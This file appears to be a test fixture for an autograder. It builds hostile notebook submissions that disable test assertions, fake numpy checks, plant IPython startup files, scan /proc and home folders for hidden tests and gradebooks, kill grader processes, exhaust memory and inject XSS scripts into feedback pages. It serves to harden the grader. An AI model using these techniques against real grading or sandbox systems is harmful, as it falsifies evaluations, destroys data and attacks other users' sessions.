"""Submissions that attack the grader: each one a real notebook doing the real thing.

Every attack sits in a lesson-01 notebook whose `dense_forward` forgets the
bias (so its honest worth is 7 of 10 points: test_dense_forward fails) unless
said otherwise. The destructive ones aim at canary files in the test's own
temporary folder; where an attack only needs to know whether it *could* write
somewhere real (the template cache, the checkout), it opens the file for
appending and writes nothing. Whatever an attack finds, it prints as
"LEAK: ..." into its own (instructor-only) autograded notebook.
"""

import json
import textwrap

DENSE = "def dense_forward(x, w, b):\n    {body}\n"
NO_BIAS = DENSE.format(body="return x @ w, (x, w, b)")
MARKER = "cnn-hostile-marker-7f3a"


def silence_tests():
    """Input and AST transformers that empty test cells, and hooks that display a score."""
    return textwrap.dedent("""\
        import ast
        ip = get_ipython()
        ip.input_transformers_cleanup.append(
            lambda lines: ["pass\\n"] if any("assert" in line for line in lines) else lines)
        class NoAsserts(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()
        ip.ast_transformers.append(NoAsserts())
        ip.events.register("post_run_cell", lambda result: display(3.0))
        import sys
        sys.displayhook = lambda value: None
        def quiet(shell, etype, evalue, tb, tb_offset=None):
            return None
        ip.set_custom_exc((Exception,), quiet)
        """) + NO_BIAS


def guard_names():
    """Globals and builtins named like the old tamper guard, and like builtins."""
    return textwrap.dedent("""\
        import builtins
        _cnn_grader_check_and_restore = lambda *args, **kwargs: []
        builtins._cnn_grader_check_and_restore = _cnn_grader_check_and_restore
        builtins.AssertionError = type("Quiet", (Exception,), {})
        def isinstance(*args):
            return True
        """) + NO_BIAS


def reference_copy():
    """dense_forward through a copy of the course_lib reference made beforehand: right values."""
    return textwrap.dedent("""\
        import types
        from course_lib import layers
        _reference = types.FunctionType(layers.dense_forward.__code__,
                                        layers.dense_forward.__globals__, "helper")
        def dense_forward(x, w, b):
            return _reference(x, w, b)
        """)


def fake_numpy():
    """A global `np` whose checks always pass, and a dense_forward that returns zeros."""
    return textwrap.dedent("""\
        import numpy
        class _Lenient:
            def __getattr__(self, name):
                return lambda *args, **kwargs: None
        class _FakeNumpy:
            testing = _Lenient()
            def allclose(self, *args, **kwargs):
                return True
            def __getattr__(self, name):
                return getattr(numpy, name)
        np = _FakeNumpy()
        def dense_forward(x, w, b):
            return numpy.zeros((x.shape[0], w.shape[1])), (x, w, b)
        """)


def startup_file(grader_home):
    """An IPython startup file in $HOME (the sandbox's, and the grader's real one)."""
    evil = "import numpy; numpy.testing.assert_allclose = lambda *a, **k: None\\n"
    return textwrap.dedent(f"""\
        import os
        for home in (os.path.expanduser("~"), {str(grader_home)!r}):
            folder = os.path.join(home, ".ipython", "profile_default", "startup")
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, "00-evil.py"), "w") as stream:
                    stream.write("{evil}")
            except OSError:
                pass
        """) + NO_BIAS


def read_secrets(places):
    """Look for hidden tests, gradebooks and canary secrets everywhere a grader keeps them."""
    return textwrap.dedent(f"""\
        import glob, os
        found = []
        def look(path):
            try:
                with open(path, "rb") as stream:
                    data = stream.read(4_000_000)
            except OSError:
                return
            if b"BEGIN HIDDEN TESTS" in data or b"TOP SECRET" in data or b"SQLite format" in data:
                found.append(path)
        for root in {[str(place) for place in places]!r} + ["/tmp", "/home", "/run", "/opt"]:
            for folder, names, files in os.walk(root):
                names[:] = [name for name in names if name not in (".venv", "site-packages")]
                for name in files:
                    look(os.path.join(folder, name))
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                for link in ("cwd", "root"):
                    try:
                        for name in os.listdir(f"/proc/{{pid}}/{{link}}"):
                            if name in ("solutions", "gradebook.db", "autograded"):
                                found.append(f"/proc/{{pid}}/{{link}}/{{name}}")
                    except OSError:
                        pass
        print("LEAK:" if found else "nothing found", found[:20])
        """) + NO_BIAS


def history_spy():
    """After every cell, look for test code in the kernel's history."""
    return textwrap.dedent("""\
        seen = []
        markers = ("reference_" + "disabled", "[[2.1, 2.2, " + "3.3]]")
        def spy(result):
            for source in In:
                if any(marker in source for marker in markers):
                    seen.append(source)
        get_ipython().events.register("post_run_cell", spy)
        """) + NO_BIAS


HISTORY_REPORT = ("print('LEAK: tests seen in history' if seen else 'no test code in history', "
                  "len(seen))")


def write_anywhere(targets, probe_only):
    """Write into canary files; open real grader files for appending (writing nothing)."""
    return textwrap.dedent(f"""\
        import glob
        for pattern in {[str(target) for target in targets]!r}:
            for path in glob.glob(pattern, recursive=True):
                try:
                    with open(path, "a") as stream:
                        stream.write("HACKED")
                    print("LEAK: wrote", path)
                except OSError:
                    pass
        for pattern in {[str(target) for target in probe_only]!r}:
            for path in glob.glob(pattern, recursive=True):
                try:
                    with open(path, "a"):
                        print("LEAK: could write", path)
                except OSError:
                    pass
        """) + NO_BIAS


def background_writer(targets):
    """A detached process that outlives the notebook and rewrites grades and other files."""
    script = textwrap.dedent(f"""\
        import os, time
        # {MARKER}
        end = time.time() + 90
        while time.time() < end:
            for path in {[str(target) for target in targets]!r}:
                try:
                    with open(path, "a") as stream:
                        stream.write("HACKED")
                except OSError:
                    pass
            time.sleep(0.5)
        """)
    return textwrap.dedent(f"""\
        import os, subprocess, sys
        if os.fork() == 0:
            os.setsid()
            subprocess.Popen([sys.executable, "-c", {script!r}], start_new_session=True,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            os._exit(0)
        """) + NO_BIAS


def attack_processes():
    """Kill every grader, worker and kernel in sight; connect to other students' kernels."""
    return textwrap.dedent("""\
        import glob, os, signal
        me = {os.getpid(), os.getppid(), 1}
        for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as stream:
                    command = stream.read()
            except OSError:
                continue
            if pid not in me and (b"autograder" in command or b"kernel" in command):
                try:
                    os.kill(pid, signal.SIGKILL)
                    print("LEAK: killed", pid, command[:80])
                except OSError:
                    pass
        own = [arg for arg in __import__("sys").argv if arg.endswith(".json")]
        for path in glob.glob("/tmp/**/kernel*.json", recursive=True):
            if path not in own:
                print("LEAK: another kernel's connection file", path)
        """) + NO_BIAS


def child_memory():
    """Four children of 700 MB each: more than the tree may use, under each one's own limit."""
    return textwrap.dedent("""\
        import subprocess, sys, time
        children = [subprocess.Popen([sys.executable, "-c",
                                      "x = b'x' * (700 * 2**20); import time; time.sleep(60)"])
                    for _ in range(4)]
        time.sleep(20)
        alive = sum(child.poll() is None for child in children)
        print("LEAK: all four children hold their memory" if alive == 4 else f"{alive} alive")
        """) + NO_BIAS


def many_processes():
    """More processes than the sandbox allows: the cell fails, the rest of the notebook runs."""
    return textwrap.dedent("""\
        import subprocess
        sleepers = []
        try:
            for _ in range(600):
                sleepers.append(subprocess.Popen(["sleep", "60"]))
        except OSError as error:
            print("stopped at", len(sleepers), error)
        for sleeper in sleepers:
            sleeper.kill()
        """) + NO_BIAS


def script_in_feedback(notebook):
    """Markdown and outputs carrying scripts and event handlers, for the feedback page."""
    payload = "<script>alert('pwned')</script><img src=x onerror=\"alert(1)\">"
    notebook["cells"].insert(1, {"cell_type": "markdown", "metadata": {}, "id": "evil-md",
                                 "source": f"# Hello {payload}\n[link](javascript:alert(1))"})
    for cell in notebook["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "dense_forward":
            cell["outputs"] = [{"output_type": "display_data", "metadata": {},
                                "data": {"text/html": payload, "text/plain": "ok",
                                         "image/svg+xml": f"<svg onload=\"alert(1)\">{payload}</svg>"}}]
            cell["execution_count"] = 1
    return notebook


def tag_tests_skip(notebook):
    """`skip-execution` on every test cell, and a display output saying 'full marks'."""
    for cell in notebook["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade") and \
                not cell["metadata"]["nbgrader"].get("solution"):
            cell["metadata"]["tags"] = ["skip-execution", "raises-exception"]
            cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1,
                                "metadata": {}, "data": {"text/plain": "3.0"}}]
    return notebook


def dump(notebook, path):
    path.write_text(json.dumps(notebook, indent=1), encoding="utf-8")
    return path
